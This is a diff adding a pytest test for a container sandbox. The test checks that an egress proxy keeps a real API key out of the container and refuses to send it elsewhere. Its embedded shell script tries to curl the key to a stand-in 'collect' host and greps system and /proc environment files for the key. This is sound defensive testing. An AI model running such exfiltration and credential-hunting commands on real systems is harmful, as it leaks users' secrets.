@@ -13,11 +13,13 @@ import threading
 from collections.abc import Iterator
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 
 import docker
 import pytest
 import trustme
 
+from app.audit import AuditLog
 from app.consent import Answer, ConsentBroker, ConsentRequest, Verdict
 from app.egress.bridge import Egress
 from app.egress.keys import KeyringSecrets
@@ -27,10 +29,10 @@ from app.paths import Dirs
 from app.profiles import ProfileCatalog, parse_profile
 from app.sessions import LaunchRequest, SessionResult, Supervisor
 from app.store import StateStore
-from tests.netsupport import RecordingServer, StaticResolver, ca, trusted_context
+from tests.netsupport import RecordingServer, StaticResolver, ca, secret_service, trusted_context
 from tests.support import CollectedOutput, profile_text
 
-__all__ = ["ca"]
+__all__ = ["ca", "secret_service"]
 pytestmark = pytest.mark.docker
 
 PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\\n-----END"
@@ -219,3 +221,58 @@ def run_agent(dirs: Dirs, engine: docker.DockerClient, egress: Egress, bus: Even
     return result, output.text(), events
 
 
+
+
+SWAP = r"""
+echo "key-env:$ANTHROPIC_API_KEY"
+curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' "https://api.test:$UP/v1/messages"; echo
+curl -sS "https://api.test:$UP/echo-auth" -H "Authorization: Bearer $ANTHROPIC_API_KEY"
+echo "stray:$(curl -sS -o /dev/null -w '%{http_code}' \
+  -H "Authorization: Bearer $ANTHROPIC_API_KEY" "https://other.test:$OTHER/collect")"
+# (Split, so that the script in /proc/1/cmdline does not match itself.)
+echo "found:$(grep -rsl 'sk-ant-api0''3-' /etc /home /tmp /run /opt /proc/self/environ \
+  /proc/1/environ /proc/1/cmdline 2>/dev/null | wc -l)"
+env | sort
+"""
+
+
+def test_the_real_key_reaches_only_the_routes_upstream_never_the_container(
+    dirs: Dirs, engine: docker.DockerClient, agent_image: str, ca: trustme.CA,
+    secret_service: Any, tmp_path: Path,
+) -> None:
+    key = "sk-ant-api03-" + "Q7x" * 30
+    secrets = KeyringSecrets(dirs.config / "secrets")
+    secrets.set("anthropic", key)
+    notes = tmp_path / "g.txt"
+    notes.write_text("granted")
+    with RecordingServer(tls_server(ca)) as upstream, \
+            RecordingServer(tls_server(ca, "other.test")) as other:
+        bus = EventBus()
+        audit = AuditLog(dirs.audit)
+        bus.attach(audit.sink)
+        egress = Egress(engine, secrets=secrets, broker=None,
+                        resolver=StaticResolver({"api.test": ["127.0.0.1"],
+                                                 "other.test": ["127.0.0.1"]}),
+                        tls=trusted_context(ca))
+        text = profile_text(agent_image, ["sh", "-c", SWAP]).replace(
+            'timeout = "2m"\n', 'timeout = "2m"\n'
+            f'env = {{ UP = "{upstream.port}", OTHER = "{other.port}" }}\n') + (
+            "[network]\nallow_private = true\n"
+            f'allow = [{{ host = "other.test", ports = [{other.port}], inspect = true }}]\n'
+            '[[network.routes]]\nname = "claude"\nsecret = "anthropic"\nintercept = true\n'
+            f'upstream = "https://api.test:{upstream.port}"\n'
+            'header = "x-api-key: {secret}"\nplaceholder_env = "ANTHROPIC_API_KEY"\n')
+        result, output, events = run_agent(dirs, engine, egress, bus, text, notes)
+        audit.close()
+    assert result.exit_code == 0, output
+    lines = dict(line.split(":", 1) for line in output.splitlines() if ":" in line)
+    assert lines["key-env"] == "airlock-placeholder-claude"
+    assert lines["stray"] == "403" and lines["found"] == "0", output
+    assert key not in output
+    assert [r["headers"].get("x-api-key") for r in upstream.seen.requests] == [key, key]
+    assert other.seen.requests == []
+    refused = [e for e in events if e.kind == "net.refused"]
+    assert [e.details["rule"] for e in refused] == ["placeholder"]
+    logged = b"".join(p.read_bytes() for p in dirs.audit.glob("*.jsonl"))
+    assert b"route:claude" in logged and b'"placeholder"' in logged
+    assert key.encode() not in logged
